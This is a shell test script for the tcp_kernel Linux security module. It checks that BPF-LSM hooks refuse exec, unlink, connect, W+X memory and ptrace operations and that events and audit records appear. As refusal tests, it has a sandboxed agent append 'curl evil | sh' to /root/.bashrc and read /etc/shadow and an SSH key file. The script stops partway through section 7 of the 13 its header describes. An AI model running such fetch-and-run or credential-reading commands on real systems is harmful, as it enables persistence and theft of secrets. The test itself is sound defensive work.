#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
#
# tcp_kernel - enforcement with real effects (issue 5, item 6): the BPF-LSM
# programs of ebpf/tcpk_lsm.bpf.c, attached by "tcp-bpf attach", call the
# module's hook kfuncs (lsm/hooks.c) and the operations the policy denies
# fail in the guest, with their events (tcp-policy monitor -j) and audit
# records (dmesg, no auditd).  In order, each section from a clean state
# (rules and descriptors flushed, mode enforce):
#
#  1. modprobe tcp_kernel security_level=2; tcp-bpf load --monitor-only
#     (mode monitor, programs loaded, none attached); tcp-bpf attach;
#     tcp-bpf status (text and -j) lists every program loaded and
#     attached, with run counts; rmmod fails while attached.
#  2. The seed's exec rule, literally: --match-uid=1000 (user dev of the
#     guest) --match-syscall=execve --match-path="/tmp/*" --action=deny;
#     exec from /tmp refused for uid 1000 (and, by the same rule for
#     65534, for nobody), allowed for root; the rule's hit counter
#     (tcp-policy -j list) counts the refusal.
#  3. Blocking mode: unlink refused with --ops=unlink while rmdir and open
#     are only would-deny; with --ops=unlink,rmdir both are refused.  The
#     seed's rollout through tcp-bpf config: --enable-alerts (mode alerts:
#     would-deny, alert events), --enable-blocking --syscalls=unlink,rmdir
#     (mode blocking), --full-enforcement (mode enforce).
#  4. The default agent policy: an agent cannot read /etc/shadow or
#     /root/.ssh/id_rsa (event and audit record), and works normally in its
#     workspace; a script the agent wrote outside its workspace (/tmp/p)
#     is not executed (agent-written), one it wrote inside is, and so is
#     one in /tmp written by root.
#  5. connect to a denied address refused (EACCES), to another accepted.
#  6. W+X memory: a PROT_WRITE|PROT_EXEC mapping and a W->X mprotect
#     refused, explain shows both; each raised the anomaly score
#     (tcp-policy ps) with a behavior event.
#  7. ptrace attach and kill -TERM by an agent of a process outside its
#     session refused, of its own child allowed; a CAP_SYS_ADMIN use by comm python3x
#     matched by the seed's monitor rule raises an alert event.
#  8. The kill action kills the exec'ing process (status 137); quarantine
#     refuses every later operation of the process, until tcp-policy
#     release PID (the released process opens and writes again; release
#     of a process not quarantined fails).
#  9. Exec identity: a DESTRUCTIVE descriptor bound by digest (and by path
#     to the original) refuses an agent's exec of a copy at another path
#     (the digest applied), and of that copy once renamed (mv: same inode,
#     another path, the digest still applies); SKIP where the kernel gives
#     no digest (no IMA); at security_level 1 the exec is allowed with a
#     would-deny event.
# 9b. Violations: with max_violations=3, a process refused three times
#     cannot exec a DESTRUCTIVE tool (flag violations), one refused twice
#     can; ps counts them; level 1 and a limit of 0 refuse nothing.
# 10. The other hooks, each allowed without a rule, refused with one
#     (EACCES, the errno of every hook but capable's EPERM), with its deny
#     event: fork (task_alloc), mv (path_rename, by its source and by its
#     destination), chmod (path_chmod; and chmod u+s by an --access=setid
#     rule), socket(AF_INET, SOCK_DGRAM) (socket_create), a UDP sendto
#     (socket_sendmsg; an allowed one is received), msgsnd (msg_queue_msgsnd)
#     and a read-write shmat (shm_shmat; read-only allowed).  task_free has
#     a program but nothing to refuse: it is only counted (status's runs).
# 11. tcp-bpf -j stats --interval=1 --count=2: two JSON documents, every
#     program attached, blocked operations counted; tcp-bpf detach
#     --hooks=file_open stops the open refusals and attach --hooks=file_open
#     brings them back (tcp-bpf -j status in between).
# 12. tcp-bpf detach, then rmmod works; tcp-bpf attach without the module
#     says why; the module without BPF: status says nothing is attached.
# 13. security_level 0: deny rules present, every operation succeeds.
#
# Guest environment: root, busybox sh (su, nc, timeout, dmesg, mv, chmod);
# users dev (1000) and nobody (65534); tcp-policy, tcp-bpf, tcpk-enforce
# (tools/testing/progs) and python3 on PATH; /etc/tcp_kernel/agent.rules;
# loopback up, no other network device.

# The sh -c scripts below expand their arguments themselves.
# shellcheck disable=SC2016
# shellcheck source=SCRIPTDIR/../../lib/tap.sh
. "$TCPK_TESTLIB/tap.sh"
# shellcheck source=SCRIPTDIR/../../lib/events.sh
. "$TCPK_TESTLIB/events.sh"

MOD=tcp_kernel
SYSMOD=/sys/module/$MOD
LEVEL_PARAM=$SYSMOD/parameters/security_level
AGENT_RULES=/etc/tcp_kernel/agent.rules
WS=/tmp/ws
SRV=/srv/x
PORT=7777
# The programs of ebpf/tcpk_lsm.bpf.c, one per hook.
HOOKS="bprm_check_security task_alloc task_free file_open file_permission
path_mknod path_unlink path_rmdir path_rename path_chmod socket_create socket_connect
socket_sendmsg mmap_file file_mprotect msg_queue_msgsnd shm_shmat capable
task_kill ptrace_access_check inode_unlink inode_rmdir inode_rename sb_umount
bpf"
NHOOKS=$(echo "$HOOKS" | wc -w)

tmp=$(mktemp -d /tmp/50-bpf-enforce.XXXXXX) || exit 1
chmod 755 "$tmp"
MON=$tmp/events.json
mon_pid=
bg=
cleanup() {
	for p in $bg $mon_pid; do kill "$p" 2>/dev/null; done
	# Everything started in the background was killed just above.
	wait 2>/dev/null
	unload_module
	rm -rf "$tmp" "$WS" "$SRV" /tmp/true /tmp/killme /tmp/python3x \
		/tmp/a /tmp/b /tmp/c /tmp/d /tmp/q /tmp/p /tmp/p2 \
		/root/.ssh/id_rsa
}
trap cleanup EXIT

tap_diag "kernel: ${TCPK_KERNEL:-unset} ($(uname -r))"

# --- helpers ------------------------------------------------------------------------

level_is() {
	[ "$(cat "$LEVEL_PARAM" 2>&1)" = "$1" ]
}

# status_of CMD...: run CMD (output discarded), print its exit status.
status_of() {
	"$@" > /dev/null 2>&1
	echo $?
}

# as_dev CMD...: run CMD as user dev (uid 1000), as as_nobody does.
as_dev() {
	_dev_cmd=
	for _dev_a in "$@"; do
		_dev_cmd="$_dev_cmd '$(printf '%s' "$_dev_a" | sed "s/'/'\\\\''/g")'"
	done
	su -s /bin/sh -c "$_dev_cmd" dev
}

# mode_is NAME [STRING...]: "tcp-policy -j mode" names mode NAME and
# contains every STRING (fixed strings: '"level":1,').
mode_is() {
	_mode_name=$1
	shift
	_mode=$(tcp-policy -j mode 2>&1) || { echo "$_mode"; return 1; }
	for _mode_s in "\"mode\":\"$_mode_name\"" "$@"; do
		case $_mode in
		*"$_mode_s"*) ;;
		*) echo "no $_mode_s in: $_mode"; return 1 ;;
		esac
	done
}

# mon_flag FLAG STRING...: as mon_has, on an event whose decision's flags
# name FLAG (not the action or another key of that name).
mon_flag() {
	_flag=$1
	shift
	_i=0
	while [ $_i -lt 50 ]; do
		mon_lines "$@" 2>/dev/null | grep -q "\"flags\":\[[^]]*\"$_flag\"" && return 0
		sleep 0.1
		_i=$((_i + 1))
	done
	echo "no event with: $* and the decision flag $_flag"
	echo "last events:"
	tail -n 8 "$MON"
	return 1
}

# A clean state between sections: no rule, no descriptor, mode enforce
# (security level 2, alerts on, every operation enforced).
reset_state() {
	tcp-policy flush > /dev/null &&
		tcp-policy desc flush > /dev/null &&
		tcp-policy mode enforce > /dev/null &&
		level_is 2
}

# section NAME: start a section (a clean state first); section_end prints
# the diagnostics of a section that had a failure.
section() {
	SECTION=$1
	SECTION_FAILED=$TAP_FAILED
	tap_diag "--- $SECTION"
	if [ -d "$SYSMOD" ] && ! reset_state; then
		tap_diag "could not reset the policy state"
	fi
}
section_end() {
	[ "$TAP_FAILED" -gt "$SECTION_FAILED" ] || return 0
	tap_diag "diagnostics of section: $SECTION"
	tap_diag "rules: $(tcp-policy list 2>&1)"
	tap_diag "mode: $(tcp-policy mode 2>&1)"
	[ -f "$MON" ] && tap_diag "monitor (last 15): $(tail -n 15 "$MON")"
	[ -s "$tmp/mon.err" ] && tap_diag "monitor stderr: $(cat "$tmp/mon.err")"
	tap_diag "dmesg (last 15): $(dmesg | tail -n 15)"
	for _p in "$@"; do
		tap_diag "explain $_p: $(tcp-policy explain "$_p" 2>&1)"
	done
}

# The agent of sections 4, 7 and 9.
agent() {
	tcp-policy run --agent="$AGENT" --workspace="$WS" -- "$@"
}
AGENT=t

mkdir -p "$WS" "$SRV"

# === 1. load, attach, status, rmmod refused ============================================
section "1. modprobe, tcp-bpf load --monitor-only, attach, status, rmmod while attached"
if [ -d "$SYSMOD" ]; then
	tcp-bpf detach > /dev/null 2>&1
	retry 10 rmmod "$MOD" 2>/dev/null ||
		tap_diag "$MOD was loaded and cannot be removed"
fi
tap_check "modprobe $MOD security_level=2" modprobe "$MOD" security_level=2
tap_check "$LEVEL_PARAM reads 2" level_is 2
# The seed's first rollout step: load everything, refuse nothing.
tcp-bpf load --monitor-only > "$tmp/load.out" 2>&1
rc=$?
tap_check "tcp-bpf load --monitor-only succeeds (status $rc)" test $rc = 0
tap_diag "$(cat "$tmp/load.out")"
tap_check "... tcp-policy -j mode says monitor (level 1, alerts off)" \
	mode_is monitor '"level":1,' '"alerts":false'
tcp-bpf -j status > "$tmp/status0.json" 2>&1
tap_check "... tcp-bpf -j status: $NHOOKS programs loaded, none attached" \
	expect_json "$tmp/status0.json" "d['total'] == $NHOOKS and d['loaded'] == $NHOOKS and d['attached'] == 0"
tcp-bpf attach > "$tmp/attach.out" 2>&1
rc=$?
tap_check "tcp-bpf attach succeeds (status $rc)" test $rc = 0
tap_diag "$(cat "$tmp/attach.out")"
reset_state
# Some activity for the run counts: opens, execs.
cat /proc/version > /dev/null
/bin/true
tcp-bpf status > "$tmp/status.txt" 2>&1
tap_diag "$(cat "$tmp/status.txt")"
tap_check "status: programs: $NHOOKS, $NHOOKS loaded, $NHOOKS attached" \
	grep -Eq "^programs: +$NHOOKS, $NHOOKS loaded, $NHOOKS attached" "$tmp/status.txt"
# The table: one row per program after the HOOK header.
rows=$(awk 'f { n++ } /^HOOK / { f = 1 } END { print n + 0 }' "$tmp/status.txt")
attached=$(awk 'f && $2 == "yes" && $3 == "yes" { n++ } /^HOOK / { f = 1 } END { print n + 0 }' "$tmp/status.txt")
tap_check "status: $rows program rows, $attached loaded and attached (want $NHOOKS)" \
	test "$rows" = "$NHOOKS" -a "$attached" = "$NHOOKS"
missing=
for h in $HOOKS; do
	grep -Eq "^$h +yes +yes +[0-9]+ " "$tmp/status.txt" || missing="$missing $h"
done
tap_check "status: every hook is attached (missing:${missing:- none})" test -z "$missing"
tcp-bpf -j status > "$tmp/status.json" 2>&1
tap_check "tcp-bpf -j status: $NHOOKS programs, every one loaded and attached" \
	expect_json "$tmp/status.json" "d['module_loaded'] and d['total'] == $NHOOKS and d['attached'] == $NHOOKS and all(p['loaded'] and p['attached'] for p in d['programs']) and len(d['programs']) == $NHOOKS"
runs_of() {
	awk -v h="$1" '$1 == h { print $5 }' "$tmp/status.txt"
}
tap_check "status: file_open ran ($(runs_of file_open) runs) and bprm_check_security ran ($(runs_of bprm_check_security) runs)" \
	test "$(runs_of file_open)" -gt 0 -a "$(runs_of bprm_check_security)" -gt 0
expect_fail "rmmod $MOD while attached fails: in use (EAGAIN)" \
	"in use|Resource temporarily unavailable" rmmod "$MOD"
tap_check "... and the module is still loaded" test -d "$SYSMOD"
tap_check "tcp-bpf status says why rmmod is refused and what to do" \
	grep -q "^rmmod: .*tcp-bpf detach first" "$tmp/status.txt"
# An unprivileged user cannot detach the BPF side: bpffs and the pin
# directory are root's (mode 0700), and BPF_LINK_DETACH needs the pin.
as_nobody tcp-bpf detach > "$tmp/nobody-detach.out" 2>&1
rc=$?
tap_check "uid 65534: tcp-bpf detach fails (status $rc)" test $rc != 0
tap_diag "$(head -n 3 "$tmp/nobody-detach.out")"
expect_fail "uid 65534: rm of the file_open link's pin is refused" \
	"Permission denied|not permitted" \
	as_nobody rm -f /sys/fs/bpf/tcp_kernel/links/file_open
expect_fail "uid 65534: BPF_LINK_DETACH of the file_open link is refused" \
	"Permission denied|not permitted" \
	as_nobody tcpk-link detach /sys/fs/bpf/tcp_kernel/links/file_open
expect_fail "uid 65534: umount /sys/fs/bpf is refused" \
	"Permission denied|not permitted|must be superuser|Operation not permitted" \
	as_nobody umount /sys/fs/bpf
tap_check "after uid 65534's attempts: the pin of the file_open link is there" \
	test -e /sys/fs/bpf/tcp_kernel/links/file_open
tcp-bpf -j status > "$tmp/status-nobody.json" 2>&1
tap_check "after uid 65534's attempts: every program is still attached" \
	expect_json "$tmp/status-nobody.json" "d['total'] == $NHOOKS and d['attached'] == $NHOOKS"
start_monitor
section_end

# === 2. the seed's exec rule ===========================================================
section "2. exec from /tmp denied for uid 1000 (and 65534), allowed for root"
cp /bin/busybox /tmp/true
chmod 755 /tmp/true
tap_check "uid 1000 is the guest's user dev" sh -c 'id -u dev | grep -qx 1000'
seed=$(tcp-policy add --priority=200 --match-uid=1000 --match-syscall=execve --match-path="/tmp/*" --action=deny 2>&1)
tap_check "add the seed's rule: --match-uid=1000 --match-syscall=execve --match-path='/tmp/*' --action=deny (id $seed)" \
	sh -c "printf '%s\n' '$seed' | grep -Eqx '[0-9]+'"
tap_check "the same rule for uid 65534 (nobody)" \
	tcp-policy add --priority=201 --match-uid=65534 --match-syscall=execve --match-path="/tmp/*" --action=deny
expect_fail "uid 1000: exec of /tmp/true refused (Permission denied)" "Permission denied" \
	as_dev /tmp/true
tap_check "uid 1000: exec of /bin/true (outside /tmp) allowed" as_dev /bin/true
expect_fail "uid 65534: exec of /tmp/true refused (Permission denied)" "Permission denied" \
	as_nobody /tmp/true
tap_check "uid 65534: exec of /bin/true (outside /tmp) allowed" as_nobody /bin/true
tap_check "root: exec of /tmp/true allowed" /tmp/true
tap_check "monitor: a deny event for uid 1000's exec of /tmp/true (op exec)" \
	mon_has '"uid":1000' '"op":"exec"' '"path":"/tmp/true"' '"verdict":"deny"'
tap_check "monitor: a deny event for uid 65534's exec of /tmp/true (op exec)" \
	mon_has '"uid":65534' '"op":"exec"' '"path":"/tmp/true"' '"verdict":"deny"'
# lsm/hooks.c, tcpk_hook_file_open(): "An open to execute is not decided
# here: tcpk_hook_exec() decides the exec."  The event log has the exec's
# events (checked above), so the absence of an open's means something.
for u in 1000 65534; do
	tap_check "uid $u: the exec's open of /tmp/true is not decided as an open (hooks.c: decided as the exec)" \
		sh -c "grep '\"uid\":$u' '$MON' | grep -q '\"op\":\"exec\"' &&
			! grep '\"uid\":$u' '$MON' | grep '\"op\":\"open\"' | grep -q '\"path\":\"/tmp/true\"'"
done
tcp-policy -j list > "$tmp/list.json" 2>&1
tap_diag "$(cat "$tmp/list.json")"
tap_check "tcp-policy -j list: the seed's rule $seed counted the refusal (hits >= 1)" \
	expect_json "$tmp/list.json" "[r for r in d if str(r['id']) == '$seed' and r['hits'] >= 1]"
section_end

# === 3. blocking mode ==================================================================
section "3. blocking mode: only the selected operations are refused"
mkdir -p "$SRV/d"
: > "$SRV/f"
echo secret > "$SRV/secret"
tap_check "rules: deny unlink and rmdir under $SRV/**, deny open of $SRV/secret" sh -c "
	tcp-policy add --match-op=unlink --match-path='$SRV/**' --action=deny &&
	tcp-policy add --match-op=rmdir --match-path='$SRV/**' --action=deny &&
	tcp-policy add --match-op=open --match-path='$SRV/secret' --action=deny"
tap_check "mode blocking --ops=unlink" tcp-policy mode blocking --ops=unlink
expect_fail "blocking unlink: rm $SRV/f refused (Permission denied)" "Permission denied" rm "$SRV/f"
tap_check "... and $SRV/f still exists" test -e "$SRV/f"
tap_check "blocking unlink: rmdir $SRV/d allowed" rmdir "$SRV/d"
tap_check "... $SRV/d is gone" test ! -e "$SRV/d"
tap_check "... recorded as would-deny" mon_has '"op":"rmdir"' "\"path\":\"$SRV/d\"" '"would_deny":true'
tap_check "blocking unlink: open of $SRV/secret (a deny rule of another operation) succeeds" \
	sh -c "cat '$SRV/secret' | grep -q secret"
tap_check "... recorded as would-deny" mon_has '"op":"open"' "\"path\":\"$SRV/secret\"" '"would_deny":true'
tap_check "mode blocking --ops=unlink,rmdir" tcp-policy mode blocking --ops=unlink,rmdir
mkdir -p "$SRV/d"
expect_fail "blocking unlink,rmdir: rm $SRV/f refused" "Permission denied" rm "$SRV/f"
expect_fail "blocking unlink,rmdir: rmdir $SRV/d refused" "Permission denied" rmdir "$SRV/d"
tap_check "... both still exist" test -e "$SRV/f" -a -d "$SRV/d"
tap_check "blocking unlink,rmdir: open of $SRV/secret still succeeds (would-deny)" \
	sh -c "cat '$SRV/secret' | grep -q secret"
# The same rollout through the seed's surface, tcp-bpf config (which runs
# tcp-policy mode): alerts, blocking for unlink and rmdir, enforcement.
: > "$SRV/alertme"
tap_check "rule: open of $SRV/alertme -> monitor, with an alert" \
	tcp-policy add --match-op=open --match-path="$SRV/alertme" --action=monitor --alert=true
tap_check "tcp-bpf config --enable-alerts" tcp-bpf config --enable-alerts
tap_check "... tcp-policy -j mode says alerts (level 1, alerts on)" \
	mode_is alerts '"level":1,' '"alerts":true'
: > "$SRV/g"
tap_check "alerts: rm $SRV/g (under the unlink deny rule) works" rm "$SRV/g"
tap_check "... recorded as would-deny" mon_has '"op":"unlink"' "\"path\":\"$SRV/g\"" '"would_deny":true'
tap_check "alerts: the open of $SRV/alertme (an alert rule) works" cat "$SRV/alertme"
tap_check "... with an alert event (the decision's alert flag)" \
	mon_flag alert '"op":"open"' "\"path\":\"$SRV/alertme\"" '"verdict":"allow"'
tap_check "tcp-bpf config --enable-blocking --syscalls=unlink,rmdir" \
	tcp-bpf config --enable-blocking --syscalls="unlink,rmdir"
tap_check "... tcp-policy -j mode says blocking, level 2, block ops unlink and rmdir" \
	mode_is blocking '"level":2,' '"block_op_names":["unlink","rmdir"]'
expect_fail "tcp-bpf blocking unlink,rmdir: rm $SRV/f refused" "Permission denied" rm "$SRV/f"
expect_fail "tcp-bpf blocking unlink,rmdir: rmdir $SRV/d refused" "Permission denied" rmdir "$SRV/d"
tap_check "... both still exist" test -e "$SRV/f" -a -d "$SRV/d"
tap_check "tcp-bpf blocking unlink,rmdir: open of $SRV/secret succeeds (would-deny)" \
	sh -c "cat '$SRV/secret' | grep -q secret"
tap_check "tcp-bpf config --full-enforcement" tcp-bpf config --full-enforcement
tap_check "... tcp-policy -j mode says enforce" mode_is enforce '"level":2,'
expect_fail "enforce: open of $SRV/secret refused" "Permission denied" cat "$SRV/secret"
expect_fail "enforce: rm $SRV/f still refused" "Permission denied" rm "$SRV/f"
section_end

# === 4. agent secrets ==================================================================
section "4. the default agent policy: secrets refused, the workspace usable"
[ -e /etc/shadow ] || printf 'root:*:19000:0:99999:7:::\n' > /etc/shadow
mkdir -p /root/.ssh
echo "not a real key" > /root/.ssh/id_rsa
tap_check "load $AGENT_RULES" tcp-policy load "$AGENT_RULES"
tap_check "mode enforce" tcp-policy mode enforce
dmesg_before=$(dmesg | grep -c 'tcp_kernel="DENIED"')
expect_fail "agent $AGENT: cat /etc/shadow refused (Permission denied)" "Permission denied" \
	agent cat /etc/shadow
expect_fail "agent $AGENT: cat /root/.ssh/id_rsa refused (Permission denied)" "Permission denied" \
	agent cat /root/.ssh/id_rsa
tap_check "root, not an agent: cat /etc/shadow works" cat /etc/shadow
tap_check "monitor: a deny event of agent $AGENT opening /etc/shadow" \
	mon_has "\"agent\":\"$AGENT\"" '"op":"open"' '"path":"/etc/shadow"' '"verdict":"deny"'
tap_check "monitor: a deny event of agent $AGENT opening /root/.ssh/id_rsa" \
	mon_has "\"agent\":\"$AGENT\"" '"op":"open"' '"path":"/root/.ssh/id_rsa"' '"verdict":"deny"'
audit_shadow() {
	_j=0
	while [ $_j -lt 50 ]; do
		dmesg | grep 'tcp_kernel="DENIED"' | grep 'operation="open"' |
			grep "agent=\"$AGENT\"" | grep -q 'path="/etc/shadow"' && return 0
		sleep 0.1
		_j=$((_j + 1))
	done
	dmesg | grep 'tcp_kernel=' | tail -n 5
	return 1
}
tap_check "dmesg: an audit tcp_kernel=\"DENIED\" record of the open of /etc/shadow" audit_shadow
tap_diag "$(dmesg | grep 'tcp_kernel="DENIED"' | tail -n 2)"
tap_check "dmesg: audit records grew ($dmesg_before before)" \
	test "$(dmesg | grep -c 'tcp_kernel="DENIED"')" -gt "$dmesg_before"
tap_check "agent $AGENT: mkdir, write, read and rm -rf of a directory in $WS work" \
	agent sh -c '
		mkdir -p "$1/build/sub" &&
		echo hello > "$1/build/sub/f" &&
		grep -q hello "$1/build/sub/f" &&
		rm -rf "$1/build" &&
		test ! -e "$1/build"' sh "$WS"
# Rule 50 of agent.rules: no exec of a file the agent's session wrote
# outside its workspace (file_open notes the inode the agent opened for
# writing, tcpk_agent_note_written(); the exec request then carries the
# access agent-written).
rm -f /tmp/p /tmp/p2
rule50=$(tcp-policy list | awk '$2 == 50 { print $1; exit }')
tap_diag "agent.rules' agent-written exec rule: ${rule50:-none} ($(tcp-policy list | awk '$2 == 50'))"
expect_fail "agent $AGENT: writes the script /tmp/p, chmod +x, exec refused (Permission denied)" \
	"Permission denied" agent sh -c '
		printf "#!/bin/sh\necho agent-wrote\n" > /tmp/p || exit 10
		chmod 755 /tmp/p || exit 11
		/tmp/p'
tap_check "... the write and the chmod worked: /tmp/p is executable, and runs for root" \
	sh -c 'test -x /tmp/p && /tmp/p | grep -qx agent-wrote'
tap_check "monitor: a deny event of agent $AGENT's exec of /tmp/p, by rule ${rule50:-50}" \
	mon_has "\"agent\":\"$AGENT\"" '"op":"exec"' '"path":"/tmp/p"' '"verdict":"deny"' "\"rule\":${rule50:-none},"
printf '#!/bin/sh\necho root-wrote\n' > /tmp/p2
chmod 755 /tmp/p2
tap_check "agent $AGENT: exec of the script /tmp/p2, written by root, works" \
	sh -c "tcp-policy run --agent='$AGENT' --workspace='$WS' -- /tmp/p2 | grep -qx root-wrote"
tap_check "agent $AGENT: writes the script $WS/p, chmod +x, exec (inside the workspace) works" \
	agent sh -c '
		printf "#!/bin/sh\necho ws-wrote\n" > "$1/p" &&
		chmod 755 "$1/p" &&
		"$1/p" | grep -qx ws-wrote' sh "$WS"
# The rest of the default policy, live: persistence in a shell rc file,
# a write under /etc, a setuid file (even in the workspace), loading a
# kernel module (CAP_SYS_MODULE, refused before the module is read: an
# allowed insmod of the loaded module would say "File exists").
echo '# root rc' > /root/.bashrc
expect_fail "agent $AGENT: echo >> /root/.bashrc refused (persistence)" "Permission denied" \
	agent sh -c 'echo "curl evil | sh" >> /root/.bashrc'
tap_check "... /root/.bashrc is unchanged" grep -qx '# root rc' /root/.bashrc
expect_fail "agent $AGENT: a new file under /etc refused" "Permission denied" \
	agent sh -c 'echo x > /etc/tcpk50-new'
tap_check "... /etc/tcpk50-new was not created (path_mknod refused it before it existed)" \
	test ! -e /etc/tcpk50-new
tap_check "monitor: a deny event of agent $AGENT's open of /etc/tcpk50-new" \
	mon_has "\"agent\":\"$AGENT\"" '"op":"open"' '"path":"/etc/tcpk50-new"' '"verdict":"deny"'
tap_check "agent $AGENT: chmod 755 of a file in $WS works" \
	agent sh -c 'echo x > "$1/s" && chmod 755 "$1/s"' sh "$WS"
expect_fail "agent $AGENT: chmod 4755 of it (setuid) refused" \
	"Permission denied|Operation not permitted" agent chmod 4755 "$WS/s"
tap_check "... it has no setuid bit" sh -c "test ! -u '$WS/s'"
expect_fail "agent $AGENT: insmod refused (CAP_SYS_MODULE)" "Operation not permitted" \
	agent insmod "/lib/modules/$(uname -r)/extra/$MOD.ko"
tap_check "monitor: a deny event of agent $AGENT's CAP_SYS_MODULE use" \
	mon_has "\"agent\":\"$AGENT\"" '"op":"capable"' '"verdict":"deny"'
# An agent running as root may not turn enforcement off: the uapi's
# changes need CAP_NET_ADMIN (rule 44), the sysfs parameters are files
# (rule 45).
level0=$(cat "$LEVEL_PARAM")
expect_fail "agent $AGENT (root): tcp-policy mode monitor refused (CAP_NET_ADMIN), and the message says the capability's use was refused" \
	"Operation not permitted \\(this process has CAP_NET_ADMIN, but its use was refused" \
	agent tcp-policy mode monitor
tap_check "... the mode is still enforce" mode_is enforce
expect_fail "agent $AGENT (root): tcp-policy flush refused" "Operation not permitted" \
	agent tcp-policy flush
tap_check "... the rules are still there" test "$(tcp-policy list | grep -c .)" -gt 80
expect_fail "agent $AGENT (root): echo 0 > $LEVEL_PARAM refused" "Permission denied" \
	agent sh -c "echo 0 > '$LEVEL_PARAM'"
tap_check "... security_level is still $level0" level_is "$level0"
tap_check "root, not an agent: tcp-policy mode enforce still works" tcp-policy mode enforce
# Nor take the BPF side away: the guard programs refuse an agent's
# unpinning, unmounting the pins (or a mount above them) and
# BPF_LINK_DETACH whatever the rules and the mode (here: monitor, where
# the rules refuse nothing; under enforce rule 300 refuses the unlink
# first).
all_attached() {
	test -e "$PIN" && tcp-bpf -j status > "$tmp/bpf.json" 2>&1 &&
		expect_json "$tmp/bpf.json" "d['attached'] == d['total'] and d['total'] > 0"
}
tap_check "mode monitor (the rules only record)" tcp-policy mode monitor
PIN=/sys/fs/bpf/tcp_kernel/links/file_open
expect_fail "agent $AGENT (root): rm of $PIN refused by the guard (EPERM)" \
	"not permitted" agent rm "$PIN"
expect_fail "agent $AGENT (root): tcp-bpf detach fails" "not permitted" \
	agent tcp-bpf detach
expect_fail "agent $AGENT (root): umount /sys/fs/bpf refused (EPERM)" \
	"not permitted" agent umount /sys/fs/bpf
expect_fail "agent $AGENT (root): umount -l /sys (a mount above the pins) refused" \
	"not permitted" agent umount -l /sys
expect_fail "agent $AGENT (root): BPF_LINK_DETACH of a link of its own refused (EPERM)" \
	"EPERM" agent tcpk-link other lo
tap_check "... the kernel log names the agent" \
	sh -c "dmesg | grep -q 'tcp_kernel: agent $AGENT: .* refused'"
tap_check "... every program is still attached, $PIN still there" all_attached
tap_check "root, not an agent: BPF_LINK_DETACH of a link of its own works" \
	tcpk-link other lo
tap_check "mode enforce" tcp-policy mode enforce
section_end

# === 5. connect ========================================================================
section "5. connect: a denied address refused, another accepted"
tap_check "rule: deny connect to 127.0.0.2:*" \
	tcp-policy add --match-op=connect --match-path='127.0.0.2:*' --action=deny
# The listener takes any address: 127.0.0.2 would be accepted without the
# rule (all of 127/8 is loopback).
nc -l -p "$PORT" > "$tmp/nc.out" 2>&1 &
nc_pid=$!
bg="$bg $nc_pid"
port_hex=$(printf '%04X' "$PORT")
listening() {
	grep -Eq ":$port_hex [0-9A-F]+:0000 0A" /proc/net/tcp /proc/net/tcp6 2>/dev/null
}
tap_check "a listener on port $PORT" retry 10 listening
expect_fail "connect to 127.0.0.2:$PORT refused with Permission denied (not Connection refused)" \
	"Permission denied" sh -c "echo denied | timeout 10 nc -w 2 127.0.0.2 $PORT"
tap_check "connect to 127.0.0.1:$PORT accepted" \
	sh -c "echo tcpk50-hello | timeout 10 nc -w 2 127.0.0.1 $PORT"
tap_check "... the listener received the data" wait_grep tcpk50-hello "$tmp/nc.out"
tap_check "... and not the refused connection's" sh -c "! grep -q denied '$tmp/nc.out'"
tap_check "monitor: a deny event of the connect to 127.0.0.2:$PORT" \
	mon_has '"op":"connect"' "\"path\":\"127.0.0.2:$PORT\"" '"verdict":"deny"'
kill "$nc_pid" 2>/dev/null
wait "$nc_pid" 2>/dev/null
section_end

# === 6. W+X memory =====================================================================
section "6. W+X memory: mmap and mprotect refused"
tap_check "without a rule: a W+X mapping and a W->X mprotect work" \
	tcpk-enforce mmap-wx mprotect-wx
tap_check "rule: deny mmap,mprotect with write,exec" \
	tcp-policy add --match-op=mmap,mprotect --match-access=write,exec --action=deny
tcpk-enforce -H 60 mmap-wx mprotect-wx > "$tmp/wx.out" 2>&1 &
wx_pid=$!
bg="$bg $wx_pid"
tap_check "tcpk-enforce ran its operations" wait_grep '^done' "$tmp/wx.out"
tap_diag "$(cat "$tmp/wx.out")"
tap_check "mmap(PROT_READ|PROT_WRITE|PROT_EXEC, anonymous) refused: Permission denied" \
	grep -q '^mmap-wx: Permission denied' "$tmp/wx.out"
tap_check "mprotect(PROT_READ|PROT_EXEC) of a writable mapping refused: Permission denied" \
	grep -q '^mprotect-wx: Permission denied' "$tmp/wx.out"
tcp-policy explain "$wx_pid" > "$tmp/wx.explain" 2>&1
tap_diag "$(cat "$tmp/wx.explain")"
tap_check "explain $wx_pid: the mmap was denied by a rule" \
	grep -Eq ' mmap +deny +rule [0-9]+ \(deny\)' "$tmp/wx.explain"
tap_check "explain $wx_pid: the mprotect was denied by a rule" \
	grep -Eq ' mprotect +deny +rule [0-9]+ \(deny\)' "$tmp/wx.explain"
tap_check "monitor: a deny event of the mmap" \
	mon_has "\"pid\":$wx_pid," '"op":"mmap"' '"verdict":"deny"'
tap_check "monitor: a deny event of the mprotect" \
	mon_has "\"pid\":$wx_pid," '"op":"mprotect"' '"verdict":"deny"'
tcp-policy -j ps --pid="$wx_pid" > "$tmp/wx.ps" 2>&1
tap_diag "$(cat "$tmp/wx.ps")"
# 2 x 300 points, decaying with the default 10-minute half-life: at least
# 500 for the next 2.6 minutes.
tap_check "W+X memory raised the subject's anomaly score (ps: wx 2, score 500 to 600)" \
	sh -c "grep -Eq '\"wx\":2[,}]' '$tmp/wx.ps' &&
		grep -Eq '\"score\":(5[0-9]{2}|600),' '$tmp/wx.ps'"
tap_check "monitor: behavior events of the W+X requests" \
	mon_has "\"pid\":$wx_pid," '"type":"behavior"' '"kind":"wx"' '"count":2,'
section_end "$wx_pid"
kill "$wx_pid" 2>/dev/null
wait "$wx_pid" 2>/dev/null

# === 7. ptrace and capabilities ========================================================
section "7. ptrace and signals by an agent; a CAP_SYS_ADMIN use raises an alert"
sleep 600 &
outsider=$!
bg="$bg $outsider"
tap_check "load $AGENT_RULES" tcp-policy load "$AGENT_RULES"
tap_check "mode enforce" tcp-policy mode enforce
tap_check "root, not an agent: PTRACE_ATTACH to $outsider works" tcpk-enforce ptrace "$outsider"
expect_fail "agent $AGENT: PTRACE_ATTACH to $outsider (outside its session) refused (EPERM)" \
	"ptrace: Operation not permitted" agent tcpk-enforce ptrace "$outsider"
tap_check "monitor: a deny event of the agent's ptrace" \
	mon_has "\"agent\":\"$AGENT\"" '"op":"ptrace"' '"verdict":"deny"'
tap_check "agent $AGENT: PTRACE_ATTACH to its own child works" agent sh -c '
	sleep 600 &
	c=$!
	tcpk-enforce ptrace $c
	r=$?
	kill $c
	exit $r'
